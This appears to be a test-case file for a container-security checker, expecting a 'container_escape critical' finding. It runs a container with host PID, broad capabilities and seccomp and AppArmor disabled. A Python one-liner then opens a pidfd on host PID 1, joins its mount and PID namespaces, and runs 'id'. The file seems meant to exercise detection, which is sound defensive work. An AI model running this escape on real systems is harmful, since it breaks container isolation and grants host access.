# about: setns by a program of its own, one descriptor of a process for all
# expect: container_escape critical
# where: container
# needs: docker
container --pid=host --cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add SYS_CHROOT --cap-add DAC_READ_SEARCH --security-opt seccomp=unconfined --security-opt apparmor=unconfined -- \
    python3 -c 'import ctypes,os
libc=ctypes.CDLL(None,use_errno=True)
fd=libc.syscall(434,1,0)
print(libc.setns(fd,0x20000000|0x00020000))
os.system("id")' || true
